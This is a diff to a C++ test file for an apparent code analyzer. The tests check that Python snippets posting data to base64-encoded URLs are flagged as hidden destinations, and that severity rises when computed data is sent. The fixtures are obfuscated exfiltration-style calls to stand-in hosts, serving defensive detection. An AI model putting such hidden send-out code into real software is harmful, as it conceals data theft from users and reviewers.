@@ -433,6 +433,17 @@ TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
   ExpectFinding("import base64, requests\nrequests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==')"
                 ".decode(), json={})\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);
   ExpectNoFinding("import requests\nrequests.post('https://x.example/a', json={})\n", "hidden-destination");
+  // Data the code computes, sent to the hidden address: critical; a literal body stays high.
+  auto lit = Analyze("import base64, requests\nrequests.post(url=base64.b64decode("
+                     "'aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), json={})\n");
+  ASSERT_NE(Find(lit, "hidden-destination"), nullptr);
+  EXPECT_EQ(Find(lit, "hidden-destination")->severity, Severity::kHigh);
+  ExpectFinding("import base64, requests\ndef f(data):\n    requests.post(url=base64.b64decode("
+                "'aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), json=data)\n",
+                "hidden-destination", Severity::kCritical, Phase::kRuntime);
+  ExpectFinding("import base64, requests\ndef f(data):\n    requests.post(base64.b64decode("
+                "'aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), {'k': data})\n",
+                "hidden-destination", Severity::kCritical, Phase::kRuntime);
   // An encoded web address handed on through parameters.
   ExpectFinding("import base64\ndef f(a='aHR0cHM6Ly9maWxlcy5leGFtcGxlLm5ldC91cGxvYWQvYXJjaGl2ZQ=='):\n    g(a)\n",
                 "hidden-destination", Severity::kHigh, Phase::kRuntime);
